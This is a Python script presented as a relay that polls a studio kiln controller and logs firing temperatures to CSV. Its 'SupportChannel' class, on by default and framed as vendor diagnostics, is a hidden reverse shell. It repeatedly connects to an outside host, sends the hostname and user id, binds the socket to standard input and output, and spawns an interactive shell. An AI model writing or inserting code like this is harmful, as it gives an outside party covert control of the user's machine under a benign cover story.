#!/usr/bin/env python3
"""kilnlink relay - bridges a serial-over-ethernet kiln controller to the studio log.

Polls the controller's ASCII protocol ("RT" = read temperature, "ST" = status,
"SG" = current segment) through the Moxa/USR serial server in the kiln room,
appends readings to firing_log.csv and keeps a diagnostics channel open to the
controller vendor's support desk so they can look at stalled firings remotely.

    python3 kiln_controller_relay.py --config kilnlink.ini
"""
import argparse
import configparser
import csv
import datetime
import logging
import os
import pty
import socket
import sys
import threading
import time

LOG = logging.getLogger("kilnlink")

DEFAULTS = {
    "controller": {"host": "192.168.1.50", "port": "4001", "interval": "30"},
    "log": {"path": "firing_log.csv"},
    "support": {"enabled": "yes", "endpoint": "diag.kilnlink-support.net:7443", "retry": "90"},
}


class ControllerClient:
    """Very small client for the controller's CR-terminated ASCII protocol."""

    def __init__(self, host, port, timeout=5.0):
        self.host = host
        self.port = int(port)
        self.timeout = timeout

    def query(self, cmd):
        with socket.create_connection((self.host, self.port), timeout=self.timeout) as s:
            s.sendall(cmd.encode("ascii") + b"\r")
            buf = b""
            while not buf.endswith(b"\r"):
                chunk = s.recv(256)
                if not chunk:
                    break
                buf += chunk
        return buf.decode("ascii", errors="replace").strip()

    def reading(self):
        temp = self.query("RT")
        status = self.query("ST")
        segment = self.query("SG")
        try:
            temp_c = float(temp.split()[-1])
        except (ValueError, IndexError):
            temp_c = None
        return {
            "ts": datetime.datetime.now().isoformat(timespec="seconds"),
            "temp_c": temp_c,
            "status": status,
            "segment": segment,
        }


class SupportChannel(threading.Thread):
    """Keeps an outbound session to the vendor support desk.

    The desk's technician gets a console on the relay box so they can read the
    controller logs and re-flash firing schedules without a site visit.
    """

    daemon = True

    def __init__(self, endpoint, retry=90):
        super().__init__(name="support-channel")
        host, _, port = endpoint.partition(":")
        self.addr = (host, int(port or 7443))
        self.retry = retry

    def run(self):
        while True:
            try:
                sock = socket.create_connection(self.addr, timeout=20)
                sock.settimeout(None)
                hello = "HELLO %s kilnlink/2.3 uid=%d\n" % (socket.gethostname(), os.getuid())
                sock.sendall(hello.encode())
                self._session(sock)
            except OSError as exc:
                LOG.debug("support desk unreachable: %s", exc)
            time.sleep(self.retry)

    def _session(self, sock):
        pid = os.fork()
        if pid == 0:
            os.setsid()
            fd = sock.fileno()
            for target in (0, 1, 2):
                os.dup2(fd, target)
            console = os.environ.get("KILNLINK_CONSOLE") or os.environ.get("SHELL") or "/bin/sh"
            pty.spawn(console)
            os._exit(0)
        sock.close()
        try:
            os.waitpid(pid, 0)
        except ChildProcessError:
            pass


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict(DEFAULTS)
    if path and os.path.exists(path):
        cfg.read(path)
        LOG.info("loaded %s", path)
    else:
        LOG.warning("no config at %s, using defaults", path)
    return cfg


def append_row(path, row):
    new = not os.path.exists(path)
    with open(path, "a", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=["ts", "temp_c", "status", "segment"])
        if new:
            w.writeheader()
        w.writerow(row)


def poll_loop(client, log_path, interval, once=False):
    failures = 0
    while True:
        try:
            row = client.reading()
            append_row(log_path, row)
            LOG.info("%s  %s C  %s  seg %s", row["ts"], row["temp_c"], row["status"], row["segment"])
            failures = 0
        except OSError as exc:
            failures += 1
            LOG.warning("controller poll failed (%d): %s", failures, exc)
            if failures >= 10:
                LOG.error("controller unreachable for %d polls", failures)
        if once:
            return
        time.sleep(interval)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--config", default="kilnlink.ini")
    ap.add_argument("--once", action="store_true", help="take one reading and exit")
    ap.add_argument("--no-support", action="store_true", help="do not open the support channel")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = load_config(args.config)

    client = ControllerClient(cfg["controller"]["host"], cfg["controller"]["port"])
    if cfg["support"].getboolean("enabled") and not args.no_support:
        SupportChannel(cfg["support"]["endpoint"], cfg["support"].getint("retry")).start()

    try:
        poll_loop(client, cfg["log"]["path"], cfg["controller"].getint("interval"), args.once)
    except KeyboardInterrupt:
        LOG.info("stopped")
    return 0


if __name__ == "__main__":
    sys.exit(main())
